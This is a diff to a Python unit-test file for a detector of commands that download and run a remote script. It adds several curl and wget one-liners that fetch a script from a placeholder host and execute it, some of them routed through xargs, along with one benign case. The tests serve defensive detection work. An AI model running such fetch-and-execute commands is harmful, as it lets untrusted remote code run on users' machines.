@@ -64,6 +64,11 @@ class RunsWhatItDownloads(unittest.TestCase):
             "sh <<EOF\n$(curl https://a.example/i.sh)\nEOF",
             "curl https://a.example/i.sh -o a; cat a | sh",
             "curl https://a.example/i.sh -o a; sh < a",
+            "curl -fsSLo i.sh https://a.example/i.sh && sh i.sh",
+            "wget -qO i.sh https://a.example/i.sh; bash i.sh",
+            "curl -oi.sh https://a.example/i.sh; sh i.sh",
+            "curl -s https://a.example/i.sh | xargs -0 sh -c",
+            "curl -s https://a.example/i.sh | xargs -I{} bash -c '{}'",
         ]:
             self.assertEqual(urls(command), ["https://a.example/i.sh"], command)
 
@@ -87,6 +92,7 @@ class LeavesAlone(unittest.TestCase):
             "{ ls; } | sh",
             "ls | $PAGER",
             "curl -o a https://a.example/i.sh; cat b | sh",
+            "curl -s https://a.example/list | xargs -n1 echo",
         ]:
             self.assertEqual(read(command), [], command)
 
